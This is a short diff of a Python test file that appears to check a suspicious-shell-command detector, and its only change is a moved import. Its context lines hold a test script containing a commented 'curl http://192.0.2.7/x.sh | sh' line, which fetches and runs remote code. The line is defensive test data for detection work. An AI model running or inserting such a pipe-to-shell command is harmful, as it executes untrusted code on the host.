@@ -9,7 +9,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from davy.knowledge.commands import PLACES, shapes, suspicious_command
-from davy.knowledge.telling import LINES_LIMIT, telling_lines
+from davy.knowledge.shell.telling import LINES_LIMIT, telling_lines
 
 ORDINARY = """#!/bin/sh
 # curl http://192.0.2.7/x.sh | sh
